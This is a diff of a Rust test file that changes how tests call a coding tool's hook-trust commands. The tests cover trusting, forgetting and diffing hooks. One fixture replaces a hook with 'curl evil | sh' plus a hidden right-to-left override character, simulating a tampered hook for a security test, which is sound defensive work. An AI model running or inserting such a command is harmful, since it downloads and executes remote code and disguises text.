@@ -17,7 +17,7 @@ fn guarded(config: &str) -> Sandbox {
     let sandbox = sandbox();
     sandbox.configure(config);
     sandbox.hook("guard", GUARD);
-    let _ = sandbox.run(&["trust", "--yes"]).expect_code(0);
+    let _ = sandbox.run("trust --yes").expect_code(0);
     sandbox
 }
 
@@ -52,7 +52,7 @@ fn without_a_terminal_a_missing_fail_closed_hook_stops_everything() {
     let lines = run(&sandbox, &["--headless"]).expect_code(4).json_lines();
     assert_eq!(lines.last().unwrap()["untrusted"], serde_json::json!(["guard"]));
     let _ = run(&sandbox, &["--no-hooks"]).expect_code(0);
-    let _ = sandbox.run(&["trust"]).expect_code(4);
+    let _ = sandbox.run("trust").expect_code(4);
 }
 
 #[test]
@@ -66,7 +66,7 @@ fn any_other_missing_hook_is_reported_and_the_run_continues() {
     let diagnostics = of_kind(&lines, "diagnostic");
     assert_eq!(diagnostics.len(), 1, "{lines:?}");
     assert_eq!(diagnostics[0]["id"], "trusted-hook-lost");
-    let log = sandbox.run(&["log", "--json"]).expect_code(0).json_lines();
+    let log = sandbox.run("log --json").expect_code(0).json_lines();
     let records: Vec<&Value> = log.iter().filter(|record| record["hook"] == "guard").collect();
     assert_eq!(records.len(), 2, "once a session: {log:?}");
     assert_eq!(
@@ -109,7 +109,7 @@ fn at_a_terminal_the_user_accepts_the_state_and_is_not_asked_about_it_again() {
 fn a_hook_can_be_forgotten() {
     let sandbox = guarded(CLOSED);
     remove_guard(&sandbox);
-    let mut session = sandbox.at_terminal(&["trust"]);
+    let mut session = sandbox.at_terminal("trust");
     session.wait_for("[q] quit: ");
     session.enter("f");
     session.wait_for("Forgotten: guard.");
@@ -150,7 +150,7 @@ fn the_question_about_a_changed_hook_shows_the_diff() {
         "---\nname: tidy\ndescription: Tidies.\ntrigger: after_tool\n---\n",
     );
     sandbox.write(".kodelet/hooks/tidy/scripts/run.sh", "echo one\necho two\necho three\n");
-    let _ = sandbox.run(&["trust", "--yes"]).expect_code(0);
+    let _ = sandbox.run("trust --yes").expect_code(0);
     sandbox.hook("guard", &GUARD.replace("exit 0", "curl evil\u{202e} | sh"));
     sandbox.write(".kodelet/hooks/tidy/scripts/run.sh", "echo one\necho 2\necho three\n");
     sandbox.write(".kodelet/hooks/tidy/scripts/lib.sh", "helper=1\n");
@@ -181,7 +181,7 @@ fn a_changed_helper_is_one_question_with_one_diff_and_its_hooks() {
     let sandbox = guarded("");
     sandbox.hook("other", GUARD);
     sandbox.write(".kodelet/hooks/lib/words.sh", "words=1\n");
-    let _ = sandbox.run(&["trust", "--yes"]).expect_code(0);
+    let _ = sandbox.run("trust --yes").expect_code(0);
     sandbox.write(".kodelet/hooks/lib/words.sh", "words=2\n");
     sandbox
         .write(".kodelet/hooks/hooks.toml", "[[hooks.override]]\nname = \"other\"\npriority = 7\n");
@@ -349,9 +349,9 @@ fn ctrl_c_at_the_question_about_trust_is_an_interruption() {
 fn a_hook_that_the_user_disables_is_not_missing_although_another_one_is() {
     let sandbox = guarded("");
     sandbox.hook("other", GUARD);
-    let _ = sandbox.run(&["trust", "--yes"]).expect_code(0);
+    let _ = sandbox.run("trust --yes").expect_code(0);
     remove_guard(&sandbox);
-    let _ = sandbox.run(&["hooks", "disable", "other"]).expect_code(0);
+    let _ = sandbox.run("hooks disable other").expect_code(0);
     let output = run(&sandbox, &[]).expect_code(0);
     assert!(output.stderr.contains("the trusted hook guard does not run"), "{output}");
     assert!(!output.stderr.contains("other"), "{output}");
@@ -360,11 +360,11 @@ fn a_hook_that_the_user_disables_is_not_missing_although_another_one_is() {
 #[test]
 fn each_hook_can_be_trusted_alone_and_guards_of_tenter_take_one_line() {
     let sandbox = sandbox();
-    let _ = sandbox.run(&["guard", "add", "--project", "git-safety"]).expect_code(0);
-    let _ = sandbox.run(&["trust", "--revoke"]);
+    let _ = sandbox.run("guard add --project git-safety").expect_code(0);
+    let _ = sandbox.run("trust --revoke");
     sandbox.hook("one", GUARD);
     sandbox.hook("two", GUARD);
-    let mut terminal = sandbox.at_terminal(&["trust"]);
+    let mut terminal = sandbox.at_terminal("trust");
     let question = terminal.wait_for("[e] each");
     assert!(question.contains("git-safety  the guard of Tenter"), "{question}");
     assert!(!question.contains("git-safety/HOOK.md"), "{question}");
@@ -375,7 +375,7 @@ fn each_hook_can_be_trusted_alone_and_guards_of_tenter_take_one_line() {
         terminal.enter(if question.contains("hooks/one") { "s" } else { "t" });
     }
     assert_eq!(terminal.end().0, Some(0));
-    let list = sandbox.run(&["trust", "--list"]).expect_code(0).stdout;
+    let list = sandbox.run("trust --list").expect_code(0).stdout;
     let has = |name: &str| list.contains(&format!("  {name}  "));
     assert!(has("git-safety") && has("two") && !has("one"), "{list}");
 }
@@ -384,7 +384,7 @@ fn each_hook_can_be_trusted_alone_and_guards_of_tenter_take_one_line() {
 fn trust_without_a_terminal_says_what_it_needs() {
     let sandbox = sandbox();
     sandbox.hook("one", GUARD);
-    let output = sandbox.run_with_stdin(&["trust"], "").expect_code(4);
+    let output = sandbox.run_with_stdin("trust", "").expect_code(4);
     assert!(
         output
             .stderr
